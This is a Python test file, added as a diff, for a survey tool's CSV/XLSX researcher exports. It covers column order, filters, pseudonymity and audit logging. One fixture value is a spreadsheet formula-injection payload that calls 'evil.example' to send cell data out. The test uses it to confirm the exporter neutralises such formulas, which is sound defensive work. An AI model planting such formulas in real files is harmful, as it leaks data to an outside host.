@@ -1,0 +1,241 @@
+"""Researchers' exports, read back and compared with the database, on SQLite and PostgreSQL: the
+wide CSV and XLSX (typed cells, frozen header, codebook sheet), a select_multiple's 0/1 columns,
+scores, the filters, clear errors for nothing to export, formulas neutralised, pseudonyms stable
+and never a platform id, and each export in the audit log."""
+
+from __future__ import annotations
+
+import csv
+from datetime import datetime, timedelta
+from pathlib import Path
+
+import openpyxl
+import pytest
+from sqlalchemy import select
+
+from storage.models import Answer, AuditEntry, Respondent, Submission, SurveyVersion
+from survey_flows.codebook import codebook
+from survey_flows.xlsform import load_flow
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'
+
+
+def respondent(session, clock, user: str, group: str, municipality: str) -> Respondent:
+    """A LINE respondent with a profile."""
+    made = Respondent(
+        channel="line",
+        channel_user_id=user,
+        profile={"group": group, "municipality": municipality},
+        created_at=clock.now,
+    )
+    session.add(made)
+    session.flush()
+    return made
+
+
+def take(session, clock, who: Respondent, answers: dict, *, done=True, days_ago=0) -> Submission:
+    """A livelihood submission with these answers (the first value of a list of two is the one
+    changed later)."""
+    version = session.scalars(
+        select(SurveyVersion).where(SurveyVersion.form_id == "livelihood")
+    ).first()
+    started = clock.now - timedelta(days=days_ago)
+    made = Submission(
+        respondent_id=who.id,
+        survey_version_id=version.id,
+        channel="line",
+        started_at=started,
+        completed_at=started + timedelta(minutes=3) if done else None,
+    )
+    session.add(made)
+    session.flush()
+    for question, value in answers.items():
+        for given in value if isinstance(value, tuple) else (value,):
+            session.add(
+                Answer(
+                    submission_id=made.id,
+                    respondent_id=who.id,
+                    survey_version_id=version.id,
+                    question=question,
+                    raw=str(given),
+                    value=given,
+                    answered_at=started + timedelta(minutes=1),
+                    channel="line",
+                )
+            )
+    return made
+
+
+@pytest.fixture
+def answered(app, clock) -> dict[str, int]:
+    """A driver and a vendor who finished the livelihood survey, one who did not, and an old
+    one from last month."""
+    with app.extensions["runtime"].db.begin() as session:
+        driver = respondent(session, clock, "U" + "d" * 32, "carriage", "nakhon")
+        vendor = respondent(session, clock, "U" + "v" * 32, "kadkongta", "khelang")
+        take(
+            session,
+            clock,
+            driver,
+            {
+                "years": (10, 12),
+                "busy_days": "same",
+                "customers": ["thai", "schools"],
+                "income": 850.5,
+                "online": "yes",
+                "wish": HYPERLINK,
+            },
+        )
+        take(session, clock, vendor, {"years": 3, "busy_days": "less", "customers": ["locals"]})
+        take(session, clock, vendor, {"years": 4}, done=False)
+        take(session, clock, driver, {"years": 9, "busy_days": "more"}, days_ago=40)
+        return {"driver": driver.id, "vendor": vendor.id}
+
+
+def run_export(app, out: Path, *options: str):
+    """`flask export --survey livelihood` with the options."""
+    return app.test_cli_runner().invoke(
+        args=["export", "--survey", "livelihood", "--out", str(out), *options]
+    )
+
+
+def read_csv(path: Path) -> list[dict[str, str]]:
+    """The CSV as Excel reads it (the BOM stripped)."""
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        return list(csv.DictReader(file))
+
+
+def test_the_wide_csv_is_one_row_per_submission_as_stored(app, answered, tmp_path) -> None:
+    """Columns in question order, a select_multiple's summary then 0/1 per choice, the newest
+    answer to a changed question, KoBo's meta columns; Thai intact behind a BOM."""
+    out = tmp_path / "wide.csv"
+    result = run_export(app, out)
+    assert result.exit_code == 0, result.output
+    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
+    rows = read_csv(out)
+    assert len(rows) == 3  # the unfinished one is left out
+    header = list(rows[0])
+    assert header.index("years") < header.index("busy_days") < header.index("customers")
+    assert header[header.index("customers") + 1 : header.index("customers") + 6] == [
+        "customers/thai",
+        "customers/foreign",
+        "customers/locals",
+        "customers/schools",
+        "customers/shops",
+    ]
+    for column in ("_uuid", "_submission_time", "__version__", "_respondent", "_group"):
+        assert column in header
+    newest = next(r for r in rows if r["years"] == "12")
+    assert newest["customers"] == "thai schools"
+    assert (newest["customers/thai"], newest["customers/locals"], newest["customers/schools"]) == (
+        "1",
+        "0",
+        "1",
+    )
+    assert newest["_group"] == "carriage" and newest["_municipality"] == "nakhon"
+    assert newest["income"] == "850.5" and newest["__version__"] == "1"
+    assert newest["_entered_by"] == "self"
+    with app.extensions["runtime"].db() as session:
+        uuids = set(
+            session.scalars(select(Submission.uuid).where(Submission.completed_at.is_not(None)))
+        )
+    assert {row["_uuid"] for row in rows} == uuids
+
+
+def test_a_formula_typed_by_a_respondent_is_never_run(app, answered, tmp_path) -> None:
+    """In the CSV the cell starts with ' (Excel shows it as typed); in the XLSX it is text,
+    not a formula; a negative number stays a number."""
+    out = tmp_path / "wide.csv"
+    assert run_export(app, out).exit_code == 0
+    [driver] = [r for r in read_csv(out) if r["years"] == "12"]
+    assert driver["wish"] == "'" + HYPERLINK
+    book_path = tmp_path / "wide.xlsx"
+    assert run_export(app, book_path, "--format", "xlsx").exit_code == 0
+    sheet = openpyxl.load_workbook(book_path)["data"]
+    header = [cell.value for cell in sheet[1]]
+    wish = [row[header.index("wish")] for row in sheet.iter_rows(min_row=2)]
+    typed = next(cell for cell in wish if cell.value)
+    assert typed.value == HYPERLINK and typed.data_type == "s"
+
+
+def test_the_xlsx_has_typed_cells_a_frozen_header_and_its_codebook(app, answered, tmp_path) -> None:
+    """Numbers are numbers, times are dates, the header stays in view, and the codebook sheet
+    has a row per column with its Thai label and codes."""
+    out = tmp_path / "wide.xlsx"
+    result = run_export(app, out, "--format", "xlsx")
+    assert result.exit_code == 0, result.output
+    book = openpyxl.load_workbook(out)
+    data = book["data"]
+    assert data.freeze_panes == "A2"
+    header = [cell.value for cell in data[1]]
+    rows = [[cell.value for cell in row] for row in data.iter_rows(min_row=2)]
+    years = sorted(row[header.index("years")] for row in rows)
+    assert years == [3, 9, 12]
+    assert all(isinstance(row[header.index("_submission_time")], datetime) for row in rows)
+    income = [row[header.index("income")] for row in rows if row[header.index("income")]]
+    assert income == [850.5]
+    codebook_sheet = {
+        row[0]: row for row in book["codebook"].iter_rows(min_row=2, values_only=True)
+    }
+    assert codebook_sheet["years"][1] == "คุณทำอาชีพนี้มากี่ปีแล้วคะ"
+    assert "same=เท่าเดิม / About the same" in codebook_sheet["busy_days"][4]
+    assert codebook_sheet["customers/schools"][3] == "flag"
+
+
+def test_filters_narrow_the_rows_and_nothing_matched_is_an_error(app, answered, tmp_path) -> None:
+    """By group, by date, partial ones when asked; an unknown survey, or a filter that leaves
+    nothing, is a clear error and no file."""
+    out = tmp_path / "x.csv"
+    assert run_export(app, out, "--group", "kadkongta").exit_code == 0
+    assert [r["_group"] for r in read_csv(out)] == ["kadkongta"]
+    assert run_export(app, out, "--since", "2026-11-01").exit_code == 0
+    assert len(read_csv(out)) == 2  # last month's is left out
+    assert run_export(app, out, "--partial").exit_code == 0
+    assert len(read_csv(out)) == 4
+    out.unlink()
+    nothing = run_export(app, out, "--municipality", "nowhere")
+    assert nothing.exit_code != 0 and "matches the filters" in nothing.output
+    assert not out.exists()
+    unknown = app.test_cli_runner().invoke(args=["export", "--survey", "nope", "--out", str(out)])
+    assert unknown.exit_code != 0 and "no survey 'nope'" in unknown.output
+
+
+def test_pseudonyms_are_stable_and_reveal_no_platform_id(app, answered, tmp_path) -> None:
+    """The same person has the same pseudonym in two exports (wide and long); no LINE id is
+    anywhere in either file; the two people differ."""
+    wide, long = tmp_path / "wide.csv", tmp_path / "long.csv"
+    assert run_export(app, wide).exit_code == 0
+    assert run_export(app, long, "--layout", "long").exit_code == 0
+    in_wide = {r["_respondent"] for r in read_csv(wide)}
+    in_long = {r["_respondent"] for r in read_csv(long)}
+    assert len(in_wide) == 2 and in_wide == in_long
+    for path in (wide, long):
+        text = path.read_text(encoding="utf-8-sig")
+        assert "U" + "d" * 32 not in text and "U" + "v" * 32 not in text
+
+
+def test_each_export_is_in_the_audit_log_with_its_filters(app, answered, tmp_path) -> None:
+    """Who ran it, the survey, the filters and how many rows."""
+    assert run_export(app, tmp_path / "x.csv", "--group", "carriage").exit_code == 0
+    with app.extensions["runtime"].db() as session:
+        entry = session.scalars(
+            select(AuditEntry).where(AuditEntry.action == "export.written")
+        ).one()
+    assert entry.actor.startswith("cli:") and entry.target == "survey:livelihood"
+    assert entry.detail["filters"]["groups"] == ["carriage"] and entry.detail["rows"] == 2
+
+
+def test_the_codebook_of_two_versions_keeps_a_renamed_question_apart() -> None:
+    """Version 2 renames `income` to `daily_income`: both columns, in form order, each saying
+    which version asks it."""
+    source = (Path(__file__).resolve().parent.parent / "flows/livelihood.md").read_text(
+        encoding="utf-8"
+    )
+    first = load_flow(source.encode(), "livelihood.md")
+    renamed = source.replace("| income ", "| daily_income ").replace("${income}", "${daily_income}")
+    second = load_flow(renamed.replace("| livelihood | 1 ", "| livelihood | 2 ").encode(), "l.md")
+    names = [variable.name for variable in codebook([first, second])]
+    assert names.index("income") < names.index("daily_income") < names.index("online")
+    by_name = {variable.name: variable for variable in codebook([first, second])}
+    assert by_name["income"].versions == ("1",) and by_name["daily_income"].versions == ("2",)
+    assert by_name["years"].versions == ("1", "2")
